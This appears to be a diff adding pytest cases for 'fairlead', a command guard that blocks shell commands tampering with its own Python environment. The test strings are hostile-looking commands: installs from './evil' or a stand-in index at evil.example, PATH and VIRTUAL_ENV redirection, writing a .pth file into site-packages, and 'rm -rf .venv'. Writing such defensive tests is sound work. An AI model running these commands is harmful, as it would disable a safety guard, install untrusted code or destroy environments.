@@ -115,3 +115,108 @@ def test_one_process_keeps_two_installations_apart(ground: Ground) -> None:
         Decision.BLOCK,
         Decision.CONTINUE,
     ]
+
+
+OWN = "MACHINE/uv/tools/fairlead"
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        f"uv pip install --python {OWN} ./evil",
+        f"uv pip install --python {OWN}/bin/python ./evil",
+        f"uv pip install -p {OWN} https://evil.example/x.whl",
+        f"VIRTUAL_ENV={OWN} uv pip install ./evil",
+        f"env VIRTUAL_ENV={OWN} uv pip install -e ./evil",
+        f"export VIRTUAL_ENV={OWN}; uv pip install ./evil",
+        f". {OWN}/bin/activate && pip install ./evil",
+        f"source {OWN}/bin/activate; python -m pip install dist/evil-1.0-py3-none-any.whl",
+        f"PATH={OWN}/bin:$PATH pip install ./evil",
+        f"export PATH={OWN}/bin:$PATH; pip install ./evil",
+        f"{OWN}/bin/pip install ./evil",
+        f"{OWN}/bin/python -m pip install ./evil",
+        f"cd {OWN}/bin && ./python -m pip install /tmp/evil",
+        f"{OWN}/bin/python -m pip install -i http://evil.example/simple pyyaml",
+        f"{OWN}/bin/pip install pyyaml --extra-index-url https://evil.example/simple",
+        f"{OWN}/bin/pip uninstall -y pyyaml",
+        f"pip --python {OWN} install ./evil",
+        f"pip install --target {PACKAGES} ./evil",
+        f"pip install -t {PACKAGES} requests",
+        f"pip install --prefix {OWN} ./evil",
+        "pipx inject fairlead ./evil",
+        "pipx runpip fairlead install ./evil",
+    ],
+)
+def test_nothing_unseen_is_installed_where_the_guard_alone_lives(line: str, ground: Ground) -> None:
+    assert ground.decide(line) is Decision.BLOCK
+
+
+def test_what_comes_by_name_is_asked_about_there(ground: Ground) -> None:
+    assert ground.decide(f"{OWN}/bin/pip install requests") is Decision.ASK
+    assert ground.decide(f"uv pip install --python {OWN} -r requirements.txt") is Decision.ASK
+
+
+ORDINARY = [
+    "pip install -r requirements.txt",
+    ".venv/bin/pip install -r requirements.txt",
+    ".venv/bin/python -m pip install -e .",
+    ".venv/bin/pip install -e '.[dev]'",
+    ". .venv/bin/activate && pip install requests",
+    "uv pip install --python .venv -r requirements.txt",
+    "uv pip install -e .",
+    ".venv/bin/pip uninstall -y requests",
+    "uv sync",
+]
+
+
+@pytest.mark.parametrize("line", [*ORDINARY, ".venv/bin/pip install ./libs/tool", "pip install ./libs/tool"])
+def test_an_environment_that_is_not_the_guards_is_the_projects(line: str, ground: Ground) -> None:
+    assert ground.decide(line) is Decision.CONTINUE
+
+
+class TestInTheProjectsOwnEnvironment:
+    """Where the guard is installed beside what the project needs."""
+
+    @pytest.fixture
+    def ground(self, tmp_path: Path) -> Ground:
+        ground = Ground(tmp_path)
+        places = places_in(tmp_path / "fl")
+        record(places, ground.project / ".venv/bin/python")
+        ground.installation = find_installation(places)
+        return ground
+
+    @pytest.mark.parametrize("line", ORDINARY)
+    def test_ordinary_installs_go_on(self, line: str, ground: Ground) -> None:
+        assert ground.decide(line) is Decision.CONTINUE
+
+    @pytest.mark.parametrize(
+        "line",
+        [
+            ".venv/bin/pip install ./evil",
+            "uv pip install --python .venv ./evil",
+            ". .venv/bin/activate && pip install dist/x.whl",
+            "uv pip sync --python .venv requirements.txt",
+        ],
+    )
+    def test_what_might_call_itself_anything_is_asked_about(self, line: str, ground: Ground) -> None:
+        assert ground.decide(line) is Decision.ASK
+
+    @pytest.mark.parametrize(
+        "line",
+        [
+            "rm -rf .venv",
+            "echo x > .venv/lib/python3.12/site-packages/evil.pth",
+            "sed -i s/a/b/ .venv/lib/python3.12/site-packages/yaml/__init__.py",
+            ".venv/bin/pip uninstall -y pyyaml",
+            "pip install --target .venv/lib/python3.12/site-packages ./evil",
+            "cp evil .venv/bin/python3",
+        ],
+    )
+    def test_the_guards_own_part_of_it_is_not_changed(self, line: str, ground: Ground) -> None:
+        assert ground.decide(line) is Decision.BLOCK
+
+    @pytest.mark.parametrize(
+        "line", ["touch .venv/bin/mytool", "rm -rf .venv/share", "find . -name '*.pyc' -delete"]
+    )
+    def test_the_rest_of_it_is_the_projects(self, line: str, ground: Ground) -> None:
+        assert ground.decide(line) is Decision.CONTINUE
